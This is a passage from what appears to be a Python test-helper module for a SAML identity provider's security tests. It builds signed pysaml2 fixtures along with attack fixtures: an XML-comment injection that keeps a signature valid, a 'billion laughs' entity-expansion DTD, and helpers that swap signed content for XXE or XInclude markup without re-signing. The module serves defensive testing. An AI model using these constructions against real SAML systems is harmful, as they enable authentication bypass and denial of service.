    re-signed over the commented text, so only the comment is the attack.
    Without, the signature is kept: exclusive c14n drops comments, so it
    still verifies (which is the point of the attack).
    """
    root = parse(xml)
    element = next(root.iter(tag), None)
    if element is None or len(element) or not (element.text or "").startswith(prefix):
        raise ValueError(f"no {tag} whose plain text starts with {prefix!r}")
    rest = element.text[len(prefix) :]
    element.text = prefix
    comment = etree.Comment("")
    comment.tail = rest
    element.append(comment)
    if key_file is not None:
        signature = _signature_of(root)
        method = next(
            e.get("Algorithm") for e in signature.iter(f"{{{DS}}}SignatureMethod")
        )
        digest = next(
            e.get("Algorithm") for e in signature.iter(f"{{{DS}}}DigestMethod")
        )
        return sign(
            serialize(root, _has_declaration(xml)),
            key_file,
            signature_method=method,
            digest_method=digest,
        )
    return serialize(root, _has_declaration(xml))


# --------------------------------------------------------------------------
# XXE, DTDs, XInclude (SAML-14)

PAYLOAD_NS = "urn:example:idme-test:payload"
_PAYLOAD = f"{{{PAYLOAD_NS}}}Payload"
_PAYLOAD_MARK = "idme-payload-placeholder-7f3a"

BILLION_LAUGHS = (
    '<!ENTITY lol "lol">'
    '<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    + "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(2, 10))
)


def add_doctype(xml: bytes, doctype: str) -> bytes:
    """``doctype`` (e.g. ``<!DOCTYPE AuthnRequest [...]>``) put before the
    root element, after the XML declaration if there is one."""
    data = _to_bytes(xml)
    start = data.index(b"?>") + 2 if _has_declaration(data) else 0
    return data[:start] + doctype.encode("utf-8") + data[start:]


def add_payload(xml: bytes, text: str, *, key_file: str | Path | None = None) -> bytes:
    """A ``<p:Payload xmlns:p="urn:example:idme-test:payload">text</p:Payload>``
    in the root's Extensions (samlp: or md:, created after the Issuer and
    Signature if absent): signed content a verifier must hash.  With
    ``key_file`` the root is re-signed (SHA-256) over it.

    Build an XXE / XInclude pair with it: the control carries the text an
    expanding parser would produce, signed; :func:`set_payload_markup` then
    swaps that text for ``&xxe;`` or an ``xi:include`` without re-signing,
    so a verifier that expanded it would see a valid signature.
    """
    root = parse(xml)
    namespace = etree.QName(root).namespace
    tag = f"{{{namespace}}}Extensions"
    extensions = root.find(tag)
    if extensions is None:
        extensions = etree.Element(tag)
        root.insert(_after_header(root), extensions)
    etree.SubElement(extensions, _PAYLOAD, nsmap={"p": PAYLOAD_NS}).text = text
    document = serialize(root, _has_declaration(xml))
    return sign(document, key_file) if key_file is not None else document


def set_payload_markup(xml: bytes, markup: str) -> bytes:
    """The Payload's content replaced by raw ``markup`` (``&xxe;``, an
    ``<xi:include .../>``), at the byte level: nothing is re-signed."""
    root = parse(xml)
    payload = next(root.iter(_PAYLOAD), None)
    if payload is None:
        raise ValueError("no Payload element: use add_payload() first")
    for child in list(payload):
        payload.remove(child)
    payload.text = _PAYLOAD_MARK
    data = serialize(root, _has_declaration(xml))
    return data.replace(_PAYLOAD_MARK.encode(), markup.encode("utf-8"), 1)


# --------------------------------------------------------------------------
# Signed fixtures from pysaml2's own SP client


def make_sp_client(
    entity_id: str,
    key_file: str | Path,
    cert_file: str | Path,
    *,
    acs: str | None = None,
    slo: str | None = None,
    idp_metadata: str | bytes | None = None,
) -> Any:
    """A pysaml2 ``Saml2Client`` signing RSA-SHA256 in-process.

    Signing goes through :func:`idp.saml.crypto.install_security_context`
    (``crypto_backend: XMLSecurity`` keeps pysaml2 from looking for the
    xmlsec1 binary).  ``acs`` / ``slo`` default to ``<entity_id's base>/acs``
    and ``/slo`` (HTTP-POST); ``idp_metadata`` (inline XML) is optional.
    """
    from saml2 import BINDING_HTTP_POST
    from saml2.client import Saml2Client
    from saml2.config import SPConfig
    from saml2.xmldsig import DIGEST_SHA256, SIG_RSA_SHA256

    from idp.saml.crypto import install_security_context
    from tests.saml_metadata import sp_conf

    conf = sp_conf(
        entity_id,
        key_file,
        cert_file,
        acs=acs,
        slo=slo,
        slo_binding=BINDING_HTTP_POST,
        authn_requests_signed=True,
        logout_requests_signed=True,
        want_assertions_signed=True,
        signing_algorithm=SIG_RSA_SHA256,
        digest_algorithm=DIGEST_SHA256,
    )
    if idp_metadata is not None:
        if isinstance(idp_metadata, bytes):
            idp_metadata = idp_metadata.decode("utf-8")
        conf["metadata"] = {"inline": [idp_metadata]}
    client = Saml2Client(config=SPConfig().load(conf))
    install_security_context(client)
    return client


def signed_authn_request(client: Any, destination: str, **kwargs: Any) -> bytes:
    """``client.create_authn_request(destination, sign=True, **kwargs)`` as bytes."""
    _, xml = client.create_authn_request(destination, sign=True, **kwargs)
    return _to_bytes(xml)


def signed_logout_request(
    client: Any,
    destination: str,
    idp_entity_id: str,
    name_id: str,
    *,
    session_indexes: Sequence[str] = ("session-0001",),
    name_id_format: str = "urn:oasis:names:tc:SAML:2.0:nameid-format:persistent",
    **kwargs: Any,
) -> bytes:
    """``client.create_logout_request(..., sign=True)`` for ``name_id``, as bytes."""
    from saml2.saml import NameID

    _, xml = client.create_logout_request(
        destination,
        idp_entity_id,
        name_id=NameID(format=name_id_format, text=name_id),
        session_indexes=list(session_indexes),
        sign=True,
        **kwargs,
    )
    return _to_bytes(xml)
